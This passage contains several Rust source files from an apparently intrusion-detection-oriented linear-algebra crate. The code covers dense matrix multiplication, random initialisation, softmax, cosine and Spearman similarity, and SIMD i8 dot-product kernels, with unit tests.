            for c in 0..self.cols {
                out[(c, r)] = self[(r, c)];
            }
        }
        out
    }

    /// Matrix product `self · other`, parallelized across row blocks when
    /// the problem is large enough.
    ///
    /// # Panics
    ///
    /// Panics if `self.cols != other.rows`.
    pub fn matmul(&self, other: &Matrix) -> Matrix {
        assert_eq!(
            self.cols, other.rows,
            "matmul shape mismatch: {}x{} · {}x{}",
            self.rows, self.cols, other.rows, other.cols
        );
        let mut out = Matrix::zeros(self.rows, other.cols);
        if self.rows * self.cols >= PARALLEL_THRESHOLD && self.rows >= 4 {
            self.matmul_parallel(other, &mut out);
        } else {
            matmul_block(
                &self.data,
                &other.data,
                &mut out.data,
                0,
                self.rows,
                self.cols,
                other.cols,
            );
        }
        out
    }

    fn matmul_parallel(&self, other: &Matrix, out: &mut Matrix) {
        let threads = std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(4)
            .min(self.rows);
        let rows_per = self.rows.div_ceil(threads);
        let inner = self.cols;
        let ocols = other.cols;
        let a = &self.data;
        let b = &other.data;
        crate::ops::parallel_row_chunks(&mut out.data, ocols, rows_per, |row_start, chunk| {
            let nrows = chunk.len() / ocols;
            matmul_block_into(a, b, chunk, row_start, nrows, inner, ocols);
        });
    }

    /// `self · otherᵀ` without materializing the transpose, via the
    /// register-tiled micro-kernel (`kernels::gemm_nt`). Each output
    /// still accumulates exactly as `dot(self.row(r), other.row(c))`
    /// did — ascending k, sequential fold — so results are
    /// bit-identical to the historical per-output loop.
    ///
    /// # Panics
    ///
    /// Panics if `self.cols != other.cols`.
    pub fn matmul_transposed(&self, other: &Matrix) -> Matrix {
        assert_eq!(
            self.cols, other.cols,
            "matmul_transposed shape mismatch: {}x{} · ({}x{})ᵀ",
            self.rows, self.cols, other.rows, other.cols
        );
        let mut out = Matrix::zeros(self.rows, other.rows);
        crate::kernels::gemm_nt(
            &self.data,
            &other.data,
            &mut out.data,
            self.rows,
            other.rows,
            self.cols,
        );
        out
    }

    /// Element-wise map into a new matrix.
    pub fn map(&self, f: impl Fn(f32) -> f32) -> Matrix {
        Matrix {
            rows: self.rows,
            cols: self.cols,
            data: self.data.iter().map(|&x| f(x)).collect(),
        }
    }

    /// In-place element-wise map.
    pub fn map_inplace(&mut self, f: impl Fn(f32) -> f32) {
        for x in &mut self.data {
            *x = f(*x);
        }
    }

    /// Scales every element by `s`.
    pub fn scale(&self, s: f32) -> Matrix {
        self.map(|x| x * s)
    }

    /// Frobenius norm.
    pub fn frobenius_norm(&self) -> f32 {
        self.data.iter().map(|x| x * x).sum::<f32>().sqrt()
    }

    /// Sum of all elements.
    pub fn sum(&self) -> f32 {
        self.data.iter().sum()
    }

    /// Mean of each column, as a length-`cols` vector.
    pub fn col_mean(&self) -> Vec<f32> {
        let mut mean = vec![0.0f32; self.cols];
        for r in 0..self.rows {
            for (m, v) in mean.iter_mut().zip(self.row(r)) {
                *m += v;
            }
        }
        let n = self.rows.max(1) as f32;
        for m in &mut mean {
            *m /= n;
        }
        mean
    }
}

fn matmul_block(
    a: &[f32],
    b: &[f32],
    out: &mut [f32],
    row_start: usize,
    nrows: usize,
    inner: usize,
    ocols: usize,
) {
    matmul_block_into(
        a,
        b,
        &mut out[row_start * ocols..],
        row_start,
        nrows,
        inner,
        ocols,
    );
}

/// Computes rows `[row_start, row_start+nrows)` of `A·B` into `chunk`
/// (which holds exactly those output rows) via the register-tiled
/// micro-kernel. Per-output k-accumulation order (and the historical
/// zero-skip on A elements) is unchanged, so results are bit-identical
/// to the old ikj loop — see `kernels::gemm_nn`.
fn matmul_block_into(
    a: &[f32],
    b: &[f32],
    chunk: &mut [f32],
    row_start: usize,
    nrows: usize,
    inner: usize,
    ocols: usize,
) {
    crate::kernels::gemm_nn(a, b, chunk, row_start, nrows, inner, ocols);
}

/// Dot product of two equal-length slices.
///
/// # Panics
///
/// Panics if lengths differ.
#[inline]
pub fn dot(a: &[f32], b: &[f32]) -> f32 {
    assert_eq!(a.len(), b.len(), "dot length mismatch");
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

impl Index<(usize, usize)> for Matrix {
    type Output = f32;

    #[inline]
    fn index(&self, (r, c): (usize, usize)) -> &f32 {
        &self.data[r * self.cols + c]
    }
}

impl IndexMut<(usize, usize)> for Matrix {
    #[inline]
    fn index_mut(&mut self, (r, c): (usize, usize)) -> &mut f32 {
        &mut self.data[r * self.cols + c]
    }
}

impl Add<&Matrix> for &Matrix {
    type Output = Matrix;

    fn add(self, rhs: &Matrix) -> Matrix {
        assert_eq!(self.shape(), rhs.shape(), "add shape mismatch");
        Matrix {
            rows: self.rows,
            cols: self.cols,
            data: self
                .data
                .iter()
                .zip(&rhs.data)
                .map(|(a, b)| a + b)
                .collect(),
        }
    }
}

impl Sub<&Matrix> for &Matrix {
    type Output = Matrix;

    fn sub(self, rhs: &Matrix) -> Matrix {
        assert_eq!(self.shape(), rhs.shape(), "sub shape mismatch");
        Matrix {
            rows: self.rows,
            cols: self.cols,
            data: self
                .data
                .iter()
                .zip(&rhs.data)
                .map(|(a, b)| a - b)
                .collect(),
        }
    }
}

impl AddAssign<&Matrix> for Matrix {
    fn add_assign(&mut self, rhs: &Matrix) {
        assert_eq!(self.shape(), rhs.shape(), "add_assign shape mismatch");
        for (a, b) in self.data.iter_mut().zip(&rhs.data) {
            *a += b;
        }
    }
}

impl SubAssign<&Matrix> for Matrix {
    fn sub_assign(&mut self, rhs: &Matrix) {
        assert_eq!(self.shape(), rhs.shape(), "sub_assign shape mismatch");
        for (a, b) in self.data.iter_mut().zip(&rhs.data) {
            *a -= b;
        }
    }
}

impl Mul<f32> for &Matrix {
    type Output = Matrix;

    fn mul(self, s: f32) -> Matrix {
        self.scale(s)
    }
}

impl fmt::Debug for Matrix {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "Matrix {}x{} [", self.rows, self.cols)?;
        let max_rows = 6.min(self.rows);
        for r in 0..max_rows {
            let row = self.row(r);
            let shown: Vec<String> = row.iter().take(8).map(|v| format!("{v:.4}")).collect();
            let ellipsis = if self.cols > 8 { ", …" } else { "" };
            writeln!(f, "  [{}{}]", shown.join(", "), ellipsis)?;
        }
        if self.rows > max_rows {
            writeln!(f, "  …")?;
        }
        write!(f, "]")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zeros_and_identity() {
        let z = Matrix::zeros(2, 3);
        assert_eq!(z.shape(), (2, 3));
        assert!(z.as_slice().iter().all(|&x| x == 0.0));
        let i = Matrix::identity(3);
        assert_eq!(i[(0, 0)], 1.0);
        assert_eq!(i[(0, 1)], 0.0);
    }

    #[test]
    fn matmul_small() {
        let a = Matrix::from_rows(&[&[1.0, 2.0], &[3.0, 4.0]]);
        let b = Matrix::from_rows(&[&[5.0, 6.0], &[7.0, 8.0]]);
        let c = a.matmul(&b);
        assert_eq!(c, Matrix::from_rows(&[&[19.0, 22.0], &[43.0, 50.0]]));
    }

    #[test]
    fn matmul_identity_is_noop() {
        let a = Matrix::from_fn(5, 5, |r, c| (r * 5 + c) as f32);
        assert_eq!(a.matmul(&Matrix::identity(5)), a);
        assert_eq!(Matrix::identity(5).matmul(&a), a);
    }

    #[test]
    fn matmul_rectangular() {
        let a = Matrix::from_rows(&[&[1.0, 0.0, 2.0]]);
        let b = Matrix::from_rows(&[&[1.0], &[1.0], &[1.0]]);
        let c = a.matmul(&b);
        assert_eq!(c.shape(), (1, 1));
        assert_eq!(c[(0, 0)], 3.0);
    }

    #[test]
    fn parallel_matches_serial() {
        // Big enough to trip the parallel path.
        let a = Matrix::from_fn(80, 80, |r, c| ((r * 31 + c * 17) % 13) as f32 - 6.0);
        let b = Matrix::from_fn(80, 80, |r, c| ((r * 7 + c * 3) % 11) as f32 - 5.0);
        let big = a.matmul(&b);
        // Serial reference.
        let mut reference = Matrix::zeros(80, 80);
        for r in 0..80 {
            for c in 0..80 {
                let mut s = 0.0;
                for k in 0..80 {
                    s += a[(r, k)] * b[(k, c)];
                }
                reference[(r, c)] = s;
            }
        }
        for (x, y) in big.as_slice().iter().zip(reference.as_slice()) {
            assert!((x - y).abs() < 1e-3, "parallel/serial mismatch");
        }
    }

    #[test]
    fn matmul_transposed_matches_explicit() {
        let a = Matrix::from_fn(3, 4, |r, c| (r + c) as f32);
        let b = Matrix::from_fn(5, 4, |r, c| (r * c) as f32);
        assert_eq!(a.matmul_transposed(&b), a.matmul(&b.transpose()));
    }

    #[test]
    #[should_panic(expected = "matmul shape mismatch")]
    fn matmul_shape_mismatch_panics() {
        let a = Matrix::zeros(2, 3);
        let b = Matrix::zeros(2, 3);
        let _ = a.matmul(&b);
    }

    #[test]
    fn transpose_involution() {
        let a = Matrix::from_fn(3, 7, |r, c| (r * 7 + c) as f32);
        assert_eq!(a.transpose().transpose(), a);
    }

    #[test]
    fn row_and_col_access() {
        let a = Matrix::from_rows(&[&[1.0, 2.0], &[3.0, 4.0]]);
        assert_eq!(a.row(1), &[3.0, 4.0]);
        assert_eq!(a.col(0), vec![1.0, 3.0]);
    }

    #[test]
    fn arithmetic_ops() {
        let a = Matrix::from_rows(&[&[1.0, 2.0]]);
        let b = Matrix::from_rows(&[&[3.0, 5.0]]);
        assert_eq!(&a + &b, Matrix::from_rows(&[&[4.0, 7.0]]));
        assert_eq!(&b - &a, Matrix::from_rows(&[&[2.0, 3.0]]));
        assert_eq!(&a * 2.0, Matrix::from_rows(&[&[2.0, 4.0]]));
        let mut c = a.clone();
        c += &b;
        assert_eq!(c, Matrix::from_rows(&[&[4.0, 7.0]]));
        c -= &b;
        assert_eq!(c, a);
    }

    #[test]
    fn col_mean() {
        let a = Matrix::from_rows(&[&[1.0, 10.0], &[3.0, 30.0]]);
        assert_eq!(a.col_mean(), vec![2.0, 20.0]);
    }

    #[test]
    fn frobenius_norm() {
        let a = Matrix::from_rows(&[&[3.0, 4.0]]);
        assert!((a.frobenius_norm() - 5.0).abs() < 1e-6);
    }

    #[test]
    fn debug_is_nonempty_and_truncates() {
        let a = Matrix::zeros(10, 12);
        let s = format!("{a:?}");
        assert!(s.contains("Matrix 10x12"));
        assert!(s.contains('…'));
    }

    #[test]
    fn dot_product() {
        assert_eq!(dot(&[1.0, 2.0, 3.0], &[4.0, 5.0, 6.0]), 32.0);
    }

    #[test]
    fn tiled_matmuls_are_bit_identical_to_the_naive_loops() {
        // The historical kernels, verbatim: ikj with zero-skip for
        // matmul, per-output sequential dot for matmul_transposed.
        // Shapes straddle the register-tile edges and the parallel
        // threshold.
        for (m, k, n) in [(1, 1, 1), (3, 5, 7), (13, 9, 17), (65, 64, 66)] {
            let a = Matrix::from_fn(m, k, |r, c| {
                if (r + c) % 5 == 0 {
                    0.0
                } else {
                    ((r * 31 + c * 17) % 13) as f32 * 0.37 - 2.0
                }
            });
            let b = Matrix::from_fn(k, n, |r, c| ((r * 7 + c * 3) % 11) as f32 * 0.73 - 3.0);
            let mut want = Matrix::zeros(m, n);
            for r in 0..m {
                let out_row = want.row_mut(r);
                for (ki, &aik) in a.row(r).iter().enumerate() {
                    if aik == 0.0 {
                        continue;
                    }
                    for (o, &bkj) in out_row.iter_mut().zip(b.row(ki)) {
                        *o += aik * bkj;
                    }
                }
            }
            assert_eq!(a.matmul(&b), want, "matmul {m}x{k}x{n}");

            let bt = Matrix::from_fn(n, k, |r, c| ((r * 13 + c * 5) % 9) as f32 * 1.1 - 4.0);
            let want_t = Matrix::from_fn(m, n, |r, c| dot(a.row(r), bt.row(c)));
            assert_eq!(
                a.matmul_transposed(&bt),
                want_t,
                "matmul_transposed {m}x{k}x{n}"
            );
        }
    }
}
