//! Random initialization helpers (Gaussian sampling without `rand_distr`).

use crate::matrix::Matrix;
use rand::Rng;

/// Draws one standard-normal sample via the Box–Muller transform.
pub fn standard_normal<R: Rng + ?Sized>(rng: &mut R) -> f32 {
    // Avoid ln(0).
    let u1: f32 = rng.gen_range(f32::EPSILON..1.0);
    let u2: f32 = rng.gen::<f32>();
    (-2.0 * u1.ln()).sqrt() * (std::f32::consts::TAU * u2).cos()
}

/// A `rows × cols` matrix with i.i.d. `N(0, std²)` entries.
pub fn randn<R: Rng + ?Sized>(rng: &mut R, rows: usize, cols: usize, std: f32) -> Matrix {
    Matrix::from_fn(rows, cols, |_, _| standard_normal(rng) * std)
}

/// A `rows × cols` matrix with i.i.d. `U(-limit, limit)` entries.
pub fn rand_uniform<R: Rng + ?Sized>(rng: &mut R, rows: usize, cols: usize, limit: f32) -> Matrix {
    Matrix::from_fn(rows, cols, |_, _| rng.gen_range(-limit..limit))
}

/// `n` rows scattered `N(0, noise_std²)` around the given cluster
/// `centers` (row `r` uses centre `r % centers.rows()`).
///
/// The shared synthetic-workload recipe for vector-index benches and
/// examples: deduplicated production command lines embed as many
/// variants of comparatively few templates, and drawing queries around
/// the *same* centres keeps them distributed like the indexed data.
pub fn clustered_around<R: Rng + ?Sized>(
    rng: &mut R,
    centers: &Matrix,
    n: usize,
    noise_std: f32,
) -> Matrix {
    let noise = randn(rng, n, centers.cols(), noise_std);
    Matrix::from_fn(n, centers.cols(), |r, c| {
        centers[(r % centers.rows(), c)] + noise[(r, c)]
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn normal_moments_are_plausible() {
        let mut rng = StdRng::seed_from_u64(7);
        let n = 20_000;
        let samples: Vec<f32> = (0..n).map(|_| standard_normal(&mut rng)).collect();
        let mean = samples.iter().sum::<f32>() / n as f32;
        let var = samples.iter().map(|x| (x - mean).powi(2)).sum::<f32>() / n as f32;
        assert!(mean.abs() < 0.03, "mean {mean} too far from 0");
        assert!((var - 1.0).abs() < 0.05, "variance {var} too far from 1");
    }

    #[test]
    fn randn_respects_std() {
        let mut rng = StdRng::seed_from_u64(8);
        let m = randn(&mut rng, 100, 100, 0.02);
        let var = m.as_slice().iter().map(|x| x * x).sum::<f32>() / 10_000.0;
        assert!((var.sqrt() - 0.02).abs() < 0.002);
    }

    #[test]
    fn uniform_within_bounds() {
        let mut rng = StdRng::seed_from_u64(9);
        let m = rand_uniform(&mut rng, 10, 10, 0.5);
        assert!(m.as_slice().iter().all(|&x| (-0.5..0.5).contains(&x)));
    }

    #[test]
    fn seeded_rng_is_deterministic() {
        let a = randn(&mut StdRng::seed_from_u64(1), 4, 4, 1.0);
        let b = randn(&mut StdRng::seed_from_u64(1), 4, 4, 1.0);
        assert_eq!(a, b);
    }
}
