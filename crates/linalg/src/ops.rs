//! Element-wise and row-wise numeric operations shared by `nn` and
//! `anomaly`.

use crate::matrix::Matrix;

/// Row-wise softmax, numerically stabilized by max subtraction.
pub fn softmax_rows(m: &Matrix) -> Matrix {
    let mut out = m.clone();
    softmax_rows_inplace(&mut out);
    out
}

/// In-place row-wise softmax.
pub fn softmax_rows_inplace(m: &mut Matrix) {
    let cols = m.cols();
    for r in 0..m.rows() {
        let row = m.row_mut(r);
        let max = row.iter().copied().fold(f32::NEG_INFINITY, f32::max);
        let mut sum = 0.0;
        for x in row.iter_mut() {
            *x = (*x - max).exp();
            sum += *x;
        }
        let inv = if sum > 0.0 {
            1.0 / sum
        } else {
            1.0 / cols as f32
        };
        for x in row.iter_mut() {
            *x *= inv;
        }
    }
}

/// Euclidean norm of a slice.
pub fn norm(v: &[f32]) -> f32 {
    v.iter().map(|x| x * x).sum::<f32>().sqrt()
}

/// Squared Euclidean distance between two equal-length slices.
///
/// # Panics
///
/// Panics if lengths differ.
pub fn squared_distance(a: &[f32], b: &[f32]) -> f32 {
    assert_eq!(a.len(), b.len(), "squared_distance length mismatch");
    a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
}

/// Cosine similarity of two equal-length slices; 0.0 when either is zero.
///
/// # Panics
///
/// Panics if lengths differ.
pub fn cosine_similarity(a: &[f32], b: &[f32]) -> f32 {
    cosine_with_norms(a, norm(a), b, norm(b))
}

/// [`cosine_similarity`] with both Euclidean norms supplied by the
/// caller — the batch-similarity primitive. Index structures compute
/// each candidate's norm once at build time instead of once per query
/// (see `index::ExactIndex`), and the result is bit-identical to
/// [`cosine_similarity`] when the norms come from [`norm`].
///
/// # Panics
///
/// Panics if lengths differ.
pub fn cosine_with_norms(a: &[f32], na: f32, b: &[f32], nb: f32) -> f32 {
    assert_eq!(a.len(), b.len(), "cosine_similarity length mismatch");
    if na == 0.0 || nb == 0.0 {
        return 0.0;
    }
    crate::matrix::dot(a, b) / (na * nb)
}

/// Euclidean norm of every row of `m`, in row order. The companion of
/// [`cosine_with_norms`]: compute once per candidate set, reuse across
/// queries.
pub fn row_norms(m: &Matrix) -> Vec<f32> {
    (0..m.rows()).map(|r| norm(m.row(r))).collect()
}

/// Spearman rank correlation of two equal-length score vectors, with
/// average ranks on ties — the fidelity metric the approximate and
/// quantized index paths are gated on (NaNs order via `total_cmp`, so
/// a stray non-finite score degrades the correlation instead of
/// panicking the comparator).
///
/// # Panics
///
/// Panics if lengths differ.
pub fn spearman(a: &[f32], b: &[f32]) -> f64 {
    assert_eq!(a.len(), b.len(), "spearman length mismatch");
    fn ranks(xs: &[f32]) -> Vec<f64> {
        let mut idx: Vec<usize> = (0..xs.len()).collect();
        idx.sort_by(|&i, &j| xs[i].total_cmp(&xs[j]));
        let mut out = vec![0.0; xs.len()];
        let mut i = 0;
        while i < idx.len() {
            let mut j = i;
            while j + 1 < idx.len() && xs[idx[j + 1]] == xs[idx[i]] {
                j += 1;
            }
            let avg = (i + j) as f64 / 2.0;
            for &k in &idx[i..=j] {
                out[k] = avg;
            }
            i = j + 1;
        }
        out
    }
    let (ra, rb) = (ranks(a), ranks(b));
    let n = ra.len() as f64;
    let mean = (n - 1.0) / 2.0;
    let (mut cov, mut va, mut vb) = (0.0, 0.0, 0.0);
    for (x, y) in ra.iter().zip(&rb) {
        cov += (x - mean) * (y - mean);
        va += (x - mean) * (x - mean);
        vb += (y - mean) * (y - mean);
    }
    cov / (va.sqrt() * vb.sqrt())
}

/// Mean of a slice (0.0 when empty).
pub fn mean(v: &[f32]) -> f32 {
    if v.is_empty() {
        0.0
    } else {
        v.iter().sum::<f32>() / v.len() as f32
    }
}

/// Population variance of a slice (0.0 when empty).
pub fn variance(v: &[f32]) -> f32 {
    if v.is_empty() {
        return 0.0;
    }
    let m = mean(v);
    v.iter().map(|x| (x - m) * (x - m)).sum::<f32>() / v.len() as f32
}

/// Normalizes a vector to unit length in place; leaves zero vectors alone.
pub fn normalize_inplace(v: &mut [f32]) {
    let n = norm(v);
    if n > 0.0 {
        for x in v {
            *x /= n;
        }
    }
}

/// Splits a row-major buffer of `row_width`-float rows into
/// `rows_per_chunk`-row chunks and runs `work(first_row, chunk)` on
/// each, fanned out across threads when more than one chunk exists
/// (single-chunk calls run inline, thread-spawn-free). The shared
/// harness behind `Matrix::matmul`'s row parallelism and the batched
/// attention forward.
///
/// # Panics
///
/// Panics if `buf.len()` is not a multiple of `row_width` or either
/// size is zero while the buffer is non-empty.
pub fn parallel_row_chunks<F>(buf: &mut [f32], row_width: usize, rows_per_chunk: usize, work: F)
where
    F: Fn(usize, &mut [f32]) + Sync,
{
    if buf.is_empty() {
        return;
    }
    assert!(row_width > 0 && rows_per_chunk > 0, "degenerate chunking");
    assert_eq!(buf.len() % row_width, 0, "buffer is not whole rows");
    let chunk_len = rows_per_chunk * row_width;
    if buf.len() <= chunk_len {
        work(0, buf);
        return;
    }
    let chunks: Vec<(usize, &mut [f32])> = {
        let mut start_row = 0usize;
        let mut rem = buf;
        let mut v = Vec::new();
        while !rem.is_empty() {
            let take = chunk_len.min(rem.len());
            let (head, tail) = rem.split_at_mut(take);
            v.push((start_row, head));
            start_row += take / row_width;
            rem = tail;
        }
        v
    };
    crossbeam::scope(|scope| {
        for (start_row, chunk) in chunks {
            let work = &work;
            scope.spawn(move |_| work(start_row, chunk));
        }
    })
    .expect("row-chunk worker panicked");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn softmax_rows_sum_to_one() {
        let m = Matrix::from_rows(&[&[1.0, 2.0, 3.0], &[-5.0, 0.0, 5.0]]);
        let s = softmax_rows(&m);
        for r in 0..2 {
            let sum: f32 = s.row(r).iter().sum();
            assert!((sum - 1.0).abs() < 1e-5);
        }
        // Monotone in the logits.
        assert!(s[(0, 2)] > s[(0, 1)] && s[(0, 1)] > s[(0, 0)]);
    }

    #[test]
    fn softmax_is_stable_for_large_logits() {
        let m = Matrix::from_rows(&[&[1000.0, 1001.0]]);
        let s = softmax_rows(&m);
        assert!(s.as_slice().iter().all(|x| x.is_finite()));
        assert!((s.row(0).iter().sum::<f32>() - 1.0).abs() < 1e-5);
    }

    #[test]
    fn cosine_basics() {
        assert!((cosine_similarity(&[1.0, 0.0], &[1.0, 0.0]) - 1.0).abs() < 1e-6);
        assert!(cosine_similarity(&[1.0, 0.0], &[0.0, 1.0]).abs() < 1e-6);
        assert!((cosine_similarity(&[1.0, 0.0], &[-1.0, 0.0]) + 1.0).abs() < 1e-6);
        assert_eq!(cosine_similarity(&[0.0, 0.0], &[1.0, 1.0]), 0.0);
    }

    #[test]
    fn distance_and_norm() {
        assert_eq!(squared_distance(&[0.0, 0.0], &[3.0, 4.0]), 25.0);
        assert_eq!(norm(&[3.0, 4.0]), 5.0);
    }

    #[test]
    fn precomputed_norms_are_bit_identical() {
        let a = [0.3f32, -1.7, 2.2, 0.01];
        let b = [1.1f32, 0.4, -0.9, 3.0];
        assert_eq!(
            cosine_similarity(&a, &b),
            cosine_with_norms(&a, norm(&a), &b, norm(&b)),
        );
        assert_eq!(cosine_with_norms(&a, 0.0, &b, norm(&b)), 0.0);
    }

    #[test]
    fn row_norms_match_per_row_norm() {
        let m = Matrix::from_rows(&[&[3.0, 4.0], &[0.0, 0.0], &[1.0, -1.0]]);
        let norms = row_norms(&m);
        assert_eq!(norms.len(), 3);
        for (r, n) in norms.iter().enumerate() {
            assert_eq!(*n, norm(m.row(r)));
        }
    }

    #[test]
    fn mean_variance() {
        assert_eq!(mean(&[]), 0.0);
        assert_eq!(mean(&[2.0, 4.0]), 3.0);
        assert_eq!(variance(&[2.0, 4.0]), 1.0);
    }

    #[test]
    fn normalize_unit_and_zero() {
        let mut v = vec![3.0, 4.0];
        normalize_inplace(&mut v);
        assert!((norm(&v) - 1.0).abs() < 1e-6);
        let mut z = vec![0.0, 0.0];
        normalize_inplace(&mut z);
        assert_eq!(z, vec![0.0, 0.0]);
    }
}
