//! Dense `f32` linear algebra for the cmdline-ids workspace.
//!
//! Provides the numeric substrate the paper's methods need:
//!
//! * [`Matrix`] — row-major dense matrices with (optionally parallel)
//!   matrix multiplication, used by the `nn` transformer crate.
//! * [`eig::eigh`] — cyclic-Jacobi eigendecomposition of symmetric
//!   matrices.
//! * [`svd::thin_svd`] — thin SVD built on the eigendecomposition.
//! * [`pca::Pca`] — principal component analysis with the reconstruction
//!   error of the paper's Eq. (1):
//!   `L_PCA(t) = ‖WᵀW f(t) − f(t)‖²` (projection onto the retained
//!   subspace and back).
//!
//! * [`kernels`] — blocked + SIMD micro-kernels behind the quantized
//!   candidate scan and the encoder matmuls (exact-integer i8 dots,
//!   bit-identical f32 GEMM tiles).
//!
//! Everything is pure Rust; parallelism uses scoped `crossbeam`
//! threads. `unsafe` is denied workspace-wide except the two
//! `core::arch` kernel modules (`kernels::x86`, `kernels::neon`),
//! which carry `#![deny(unsafe_op_in_unsafe_fn)]` and per-call safety
//! comments — see `kernels`' module docs for the policy.
#![deny(unsafe_code)]

pub mod eig;
pub mod kernels;
pub mod matrix;
pub mod ops;
pub mod pca;
pub mod quant;
pub mod rng;
pub mod svd;

pub use eig::eigh;
pub use matrix::{dot, Matrix};
pub use pca::Pca;
pub use svd::{thin_svd, Svd};
