//! x86_64 `core::arch` i8 dot kernels: SSE2 (baseline — every x86_64
//! CPU has it) and AVX2 (picked once at load via
//! `is_x86_feature_detected!`, cached in a dispatched fn pointer).
//!
//! Both paths sign-extend i8 lanes to i16 and use the widening
//! multiply-add (`pmaddwd` / `vpmaddwd`): each instruction computes
//! `a₂ᵢ·b₂ᵢ + a₂ᵢ₊₁·b₂ᵢ₊₁` exactly into an i32 lane. Integer
//! arithmetic is exact and associative, so the horizontal sum at the
//! end equals the scalar reference bit for bit — the property the
//! cross-kernel parity suite pins.
//!
//! Accumulator headroom: each pairwise product sum is ≤ 2·127² =
//! 32 258 (≤ 32 768 with the never-emitted −128), and a lane absorbs
//! one such sum per 16 (SSE2) or 32 (AVX2) processed elements, so i32
//! lanes stay exact below ~2²⁰ elements — orders of magnitude past any
//! embedding width the scan sees (`debug_assert`ed).
//!
//! This module and `neon` are the only `unsafe` code in the workspace;
//! `#![deny(unsafe_op_in_unsafe_fn)]` forces every unsafe operation
//! into an explicit block with its safety argument alongside.
#![deny(unsafe_op_in_unsafe_fn)]

use core::arch::x86_64::*;
use std::sync::OnceLock;

/// Widths beyond this could overflow an i32 accumulator lane in the
/// worst case; embedding dims are ≤ a few thousand.
const MAX_EXACT_LEN: usize = 1 << 20;

/// Signature shared by the SSE2/AVX2 kernels so one dispatched fn
/// pointer covers both (`unsafe` because the AVX2 body requires the
/// detected feature).
type DotI8Fn = unsafe fn(&[i8], &[i8]) -> i32;

/// Best-available x86_64 i8 dot product (AVX2 where the CPU has it,
/// SSE2 otherwise). Exact: identical to the scalar reference.
///
/// # Panics
///
/// Panics if lengths differ.
#[inline]
pub fn dot_i8(a: &[i8], b: &[i8]) -> i32 {
    assert_eq!(a.len(), b.len(), "i8 dot length mismatch");
    debug_assert!(a.len() <= MAX_EXACT_LEN, "i8 dot width overflows i32");
    static DISPATCH: OnceLock<DotI8Fn> = OnceLock::new();
    let f = DISPATCH.get_or_init(|| {
        if std::arch::is_x86_feature_detected!("avx2") {
            dot_i8_avx2
        } else {
            dot_i8_sse2
        }
    });
    // SAFETY: the dispatched fn only requires the feature it was
    // selected under (`avx2` checked above; SSE2 is part of the
    // x86_64 baseline), and both take ordinary slices.
    unsafe { f(a, b) }
}

/// SSE2 kernel: 16 code lanes per iteration, unaligned loads.
///
/// # Safety
///
/// SSE2 is mandatory on x86_64, so this is safe to call on any CPU
/// this module compiles for; it is `unsafe fn` only to share the
/// dispatch signature with the AVX2 kernel.
pub unsafe fn dot_i8_sse2(a: &[i8], b: &[i8]) -> i32 {
    let n = a.len();
    let blocks = n / 16;
    // SAFETY: all intrinsics here are SSE2; loads are `loadu`
    // (no alignment requirement) and every pointer stays inside the
    // slices: block `i` reads bytes [16i, 16i+16) with 16(i+1) ≤ n.
    unsafe {
        let zero = _mm_setzero_si128();
        let mut acc = zero;
        for i in 0..blocks {
            let pa = a.as_ptr().add(i * 16) as *const __m128i;
            let pb = b.as_ptr().add(i * 16) as *const __m128i;
            let va = _mm_loadu_si128(pa);
            let vb = _mm_loadu_si128(pb);
            // Sign-extend each i8 half to i16 by unpacking against the
            // lanes' sign masks (SSE2 has no cvtepi8; cmpgt(0, v) is
            // 0xFF exactly where v is negative).
            let sa = _mm_cmpgt_epi8(zero, va);
            let sb = _mm_cmpgt_epi8(zero, vb);
            let a_lo = _mm_unpacklo_epi8(va, sa);
            let a_hi = _mm_unpackhi_epi8(va, sa);
            let b_lo = _mm_unpacklo_epi8(vb, sb);
            let b_hi = _mm_unpackhi_epi8(vb, sb);
            // Exact widening multiply-add: i16×i16 pairs summed to i32.
            acc = _mm_add_epi32(acc, _mm_madd_epi16(a_lo, b_lo));
            acc = _mm_add_epi32(acc, _mm_madd_epi16(a_hi, b_hi));
        }
        // Horizontal i32 sum of the 4 lanes.
        let hi = _mm_shuffle_epi32(acc, 0b01_00_11_10);
        let sum2 = _mm_add_epi32(acc, hi);
        let hi2 = _mm_shuffle_epi32(sum2, 0b00_00_00_01);
        let mut total = _mm_cvtsi128_si32(_mm_add_epi32(sum2, hi2));
        for i in blocks * 16..n {
            total += a[i] as i32 * b[i] as i32;
        }
        total
    }
}

/// AVX2 kernel: 32 code lanes per iteration via `vpmovsxbw` +
/// `vpmaddwd`.
///
/// # Safety
///
/// The caller must ensure the CPU supports AVX2 (the [`dot_i8`]
/// dispatcher checks `is_x86_feature_detected!("avx2")` once).
#[target_feature(enable = "avx2")]
pub unsafe fn dot_i8_avx2(a: &[i8], b: &[i8]) -> i32 {
    let n = a.len();
    let blocks = n / 32;
    // SAFETY: intrinsics require AVX2, guaranteed by the caller per
    // this function's contract; loads are unaligned (`loadu`) and
    // block `i` reads bytes [32i, 32i+32) with 32(i+1) ≤ n.
    unsafe {
        let mut acc = _mm256_setzero_si256();
        for i in 0..blocks {
            let pa = a.as_ptr().add(i * 32) as *const __m128i;
            let pb = b.as_ptr().add(i * 32) as *const __m128i;
            // Two 16-byte halves, each sign-extended i8 → i16.
            let a_lo = _mm256_cvtepi8_epi16(_mm_loadu_si128(pa));
            let a_hi = _mm256_cvtepi8_epi16(_mm_loadu_si128(pa.add(1)));
            let b_lo = _mm256_cvtepi8_epi16(_mm_loadu_si128(pb));
            let b_hi = _mm256_cvtepi8_epi16(_mm_loadu_si128(pb.add(1)));
            acc = _mm256_add_epi32(acc, _mm256_madd_epi16(a_lo, b_lo));
            acc = _mm256_add_epi32(acc, _mm256_madd_epi16(a_hi, b_hi));
        }
        // Fold 8 i32 lanes: 256 → 128 → horizontal.
        let lo = _mm256_castsi256_si128(acc);
        let hi = _mm256_extracti128_si256(acc, 1);
        let sum4 = _mm_add_epi32(lo, hi);
        let s2 = _mm_add_epi32(sum4, _mm_shuffle_epi32(sum4, 0b01_00_11_10));
        let s1 = _mm_add_epi32(s2, _mm_shuffle_epi32(s2, 0b00_00_00_01));
        let mut total = _mm_cvtsi128_si32(s1);
        for i in blocks * 32..n {
            total += a[i] as i32 * b[i] as i32;
        }
        total
    }
